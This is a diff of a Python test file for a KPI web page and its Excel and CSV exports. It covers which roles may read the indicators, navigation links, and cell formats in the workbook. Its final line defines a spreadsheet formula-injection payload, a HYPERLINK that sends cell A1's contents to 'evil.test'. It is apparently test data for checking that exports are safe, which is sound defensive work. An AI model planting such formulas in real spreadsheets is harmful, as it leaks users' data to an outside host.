@@ -13,7 +13,8 @@ from webui_env import USERS
 from engine.deployment import Bundle
 
 PROCESSES = Path(__file__).parents[2] / "processes"
-READERS = {"dept_head", "head2", "marketing_director", "process_owner", "admin"}
+READERS = {"dept_head", "head2", "marketing_director", "process_owner", "admin",
+           "senior_manager", "sm2"}  # senior managers read their own rows
 PROSPECT = {"customer_name": "中铁十局", "industry": "road_bridge", "source_channel": "referral",
             "existing_customer": False, "key_contact_name": "王工",
             "key_contact_phone": "138 0000 0000"}
@@ -40,7 +41,7 @@ def development_section(client, url):
 
 @pytest.mark.parametrize("user", USERS)
 @pytest.mark.parametrize("url", ["/kpis", "/kpis.xlsx", "/kpis.csv"])
-def test_only_the_departments_leaders_and_admins_see_the_indicators(client_for, user, url):
+def test_leaders_admins_and_senior_managers_see_the_indicators(client_for, user, url):
     response = client_for(user).get(url)
     assert response.status_code == (200 if user in READERS else 403)
 
@@ -52,7 +53,8 @@ def test_anonymous_is_sent_to_sign_in(client_for, url):
 
 def test_navigation_links_the_page_for_readers_only(client_for):
     assert 'id="nav-kpis"' in zh(client_for("dept_head"), "/").get_data(as_text=True)
-    assert 'id="nav-kpis"' not in zh(client_for("senior_manager"), "/").get_data(as_text=True)
+    assert 'id="nav-kpis"' in zh(client_for("senior_manager"), "/").get_data(as_text=True)
+    assert 'id="nav-kpis"' not in zh(client_for("clerk"), "/").get_data(as_text=True)
 
 
 def test_default_period_is_this_month_in_china(client_for):
@@ -80,24 +82,45 @@ def test_a_bad_period_or_grouping_is_refused(client_for, query):
     assert client_for("dept_head").get("/kpis?" + query).status_code == 422
 
 
-@pytest.mark.parametrize(("lang", "sheet", "header", "total"), [
-    ("zh", "客户开发", "登记潜在客户", "合计"),
-    ("en", "Development", "Prospects registered", "Total"),
+@pytest.mark.parametrize(("lang", "sheet", "header", "total", "rate"), [
+    ("zh", "客户开发", "登记潜在客户", "合计", "批准率"),
+    ("en", "Development", "Prospects registered", "Total", "Approval rate"),
 ])
-def test_excel_export_has_a_sheet_per_area(client_for, registered, lang, sheet, header, total):
+def test_excel_export_has_a_sheet_per_table_with_typed_cells(client_for, registered, lang,
+                                                             sheet, header, total, rate):
     response = client_for("marketing_director").get(
         "/kpis.xlsx?from=2026-03-01&to=2026-03-31&by=user", headers={"Accept-Language": lang})
     assert response.status_code == 200
     assert response.mimetype.endswith("spreadsheetml.sheet")
     assert "kpis-2026-03-01-2026-03-31.xlsx" in response.headers["Content-Disposition"]
     book = load_workbook(BytesIO(response.data))
-    assert len(book.sheetnames) == 5 and sheet in book.sheetnames
-    rows = [list(r) for r in book[sheet].iter_rows(values_only=True)]
-    assert "2026-03-01" in rows[0][0]
-    header_row = next(r for r in rows if r[1] == header)
-    at = rows.index(header_row)
-    assert rows[at + 1][:2] == ["senior_manager", 1]
-    assert rows[at + 2][:2] == [total, 1]
+    assert len(book.sheetnames) == 12 and sheet in book.sheetnames  # one per table
+    assert len({name.lower() for name in book.sheetnames}) == 12 and book.sheetnames[0] in (
+        "计分卡", "Scorecard")
+    ws = book[sheet]
+    rows = [list(r) for r in ws.iter_rows(values_only=True)]
+    assert rows[0][0] == sheet and "2026-03-01" in rows[0][1]  # title, period
+    assert rows[1][1] == header and ws.freeze_panes == "A3" and ws.auto_filter.ref
+    assert rows[2][:2] == ["senior_manager", 1] and rows[3][:2] == [total, 1]
+    assert ws.cell(3, 2).number_format == "#,##0"
+    assert ws.cell(2, rows[1].index(rate) + 1).font.bold
+    for width_of in ("A", "B"):
+        assert ws.column_dimensions[width_of].width >= 8
+    # Every rate in the workbook is a number with a percentage format, never text.
+    cells = [row[column] for sheet_ in book.worksheets
+             for column, title in enumerate(next(sheet_.iter_rows(2, 2, values_only=True)))
+             if title and (title.endswith("率") or title.endswith(" rate"))
+             for row in sheet_.iter_rows(3) if row[column].value is not None]
+    assert cells, "the month has an on-time rate at least"
+    assert all(isinstance(c.value, int | float) and c.number_format == "0.0%" for c in cells)
+
+
+def test_page_formats_numbers_and_percentages_for_the_reader(client_for, registered):
+    page = client_for("dept_head").get("/kpis?from=2026-03-01&to=2026-03-31",
+                                       headers={"Accept-Language": "en"}).get_data(as_text=True)
+    development = page.split('id="kpi-development"')[1].split('id="kpi-visits"')[0]
+    assert "<td>senior_manager</td><td>1</td>" in development
+    assert "None" not in page and "0.0%" not in development.split("<td>")[1]
 
 
 FORMULA = '=HYPERLINK("http://evil.test/?"&A1,"click")'
